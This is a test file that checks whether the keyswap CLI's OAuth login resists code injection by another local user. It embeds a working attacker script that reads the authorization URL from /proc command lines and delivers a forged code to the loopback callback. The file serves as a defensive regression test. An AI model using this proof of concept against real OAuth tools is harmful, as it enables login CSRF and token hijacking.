import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { spawn } from 'node:child_process';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readStore } from '../../../src/secrets/index.js';
import { startAuthorizationServer, type AuthorizationServer } from '../../helpers/authorization-server.js';
import { cli, startCli } from '../../helpers/cli.js';
import { startHarness, type Harness } from '../../helpers/harness.js';
import { createTestCa, type TestCa } from '../../helpers/test-ca.js';

/*
 * Attack review of `keyswap oauth login`: authorization-code injection by another local user.
 * keyswap hands the whole authorization URL (state, code_challenge, redirect_uri) to $BROWSER / xdg-open on its
 * command line, which every local user reads in /proc/PID/cmdline. With it, an attacker opens the same URL in
 * their own session at the authorization server (their own account), gets a code bound to keyswap's PKCE
 * challenge and redirect, and delivers it to keyswap's loopback callback before the user's browser does. The state
 * matches and the verifier matches the challenge, so keyswap exchanges the attacker's code and stores the
 * attacker's refresh token: the agent's requests then act in the attacker's account (login CSRF), and the user's
 * own callback finds the port closed. The loopback server accepts a callback from any local uid.
 */
const CLIENT_ID = 'keyswap-hijack-client';
const CLIENT_SECRET = 'hijack-client-secret-0123456789';

let testCa: TestCa;
let as: AuthorizationServer;
let h: Harness;
let config = '';
let work = '';

beforeAll(async () => {
  testCa = createTestCa();
  as = await startAuthorizationServer({ tls: testCa.issue(['auth.example.test']), host: 'auth.example.test', clients: { [CLIENT_ID]: CLIENT_SECRET } });
  h = await startHarness({
    testCa,
    backend: 'backend: { type: file }',
    resolve: { 'auth.example.test:443': `127.0.0.1:${as.port}` },
    secrets: `
  HIJ:
    placeholder: "hij-oauth-PLACEHOLDER-0123456789abcdef"
    inject: { type: oauth2_refresh, issuer: "https://auth.example.test", token_url: "https://auth.example.test/token", client_id_secret: HIJ_CLIENT_ID, client_secret_secret: HIJ_CLIENT_SECRET, refresh_token_secret: HIJ_REFRESH }
    bindings: [{ host: api.example.test }]
`,
  });
  config = path.join(h.dir, 'keyswap.yaml');
  for (const [name, value] of [['HIJ_CLIENT_ID', CLIENT_ID], ['HIJ_CLIENT_SECRET', CLIENT_SECRET]]) expect(cli(['secret', 'set', name as string, '--config', config], { input: value }).status).toBe(0);
  work = mkdtempSync(path.join(os.tmpdir(), 'keyswap-hijack-'));
  chmodSync(work, 0o755);
}, 60_000);
afterAll(async () => {
  await h?.close();
  await as?.close();
  rmSync(work, { recursive: true, force: true });
});

// The attacker, as another user (nobody): find the URL in /proc, "log in" at the authorization server with it, and
// deliver the code to keyswap's callback. Bounded: 100 scans of /proc, 100 ms apart.
const ATTACKER = `
const fs = require('node:fs'); const https = require('node:https');
const [asPort, caFile] = process.argv.slice(2);
function scan() {
  for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {
    try { const c = fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8'); const m = /https:\\/\\/auth\\.example\\.test\\/authorize\\?[^\\0]+/.exec(c); if (m) return m[0]; } catch {}
  }
  return null;
}
(async () => {
  let url = null;
  for (let i = 0; i < 100 && url === null; i++) { url = scan(); if (url === null) await new Promise((r) => setTimeout(r, 100)); }
  if (url === null) { console.log('no-url'); return; }
  const u = new URL(url);
  const location = await new Promise((resolve, reject) => {
    https.request({ host: '127.0.0.1', port: Number(asPort), servername: u.hostname, path: u.pathname + u.search, headers: { host: u.host }, ca: fs.readFileSync(caFile) }, (res) => { res.resume(); resolve(res.headers.location); }).on('error', reject).end();
  });
  const r = await fetch(location);
  console.log('callback ' + r.status + ' ' + new URL(location).searchParams.get('code'));
})();
`;

describe('oauth login: code injection by another local user', () => {
  it('a code another uid delivers to the loopback callback (with the state it read from the browser\'s command line) is never exchanged', async () => {
    const attackerJs = path.join(work, 'attacker.cjs');
    const caFile = path.join(work, 'ca.pem');
    const browser = path.join(work, 'browser.sh');
    const pidFile = path.join(work, 'browser.pid');
    writeFileSync(attackerJs, ATTACKER, { mode: 0o644 });
    writeFileSync(caFile, testCa.certPem, { mode: 0o644 });
    // The user's browser: slow to start (a real one takes a second or two); its command line holds the URL.
    writeFileSync(browser, `#!/bin/sh\necho $$ > ${pidFile}\nsleep 8\n`, { mode: 0o755 });

    const attacker = spawn(process.execPath, [attackerJs, String(as.port), caFile], { uid: 65534, gid: 65534, stdio: ['ignore', 'pipe', 'pipe'], cwd: work });
    let attackerOut = '';
    attacker.stdout.on('data', (c: Buffer) => { attackerOut += c.toString(); });
    attacker.stderr.on('data', (c: Buffer) => { attackerOut += c.toString(); });
    const attackerDone = new Promise<void>((r) => attacker.once('close', () => r()));

    const login = startCli(['oauth', 'login', 'HIJ', '--config', config, '--timeout', '20'], { cwd: h.dir, env: { HOME: h.dir, BROWSER: browser } });
    await attackerDone;
    const code = await login.closed;
    try { process.kill(Number(readFileSync(pidFile, 'utf8').trim())); } catch { /* already gone */ }

    const store = await readStore(path.join(h.dir, 'state/secrets.enc'), { kind: 'keyfile', path: path.join(h.dir, 'state/store.key') });
    const refresh = store.entries.get('HIJ_REFRESH')?.value;
    // The attacker got its code to keyswap (200) and keyswap stored the refresh token issued for it.
    expect(refresh, `keyswap exit ${code}; attacker: ${attackerOut}\n${login.stdout()}\n${login.stderr()}`).toBeUndefined();
  }, 60_000);
});
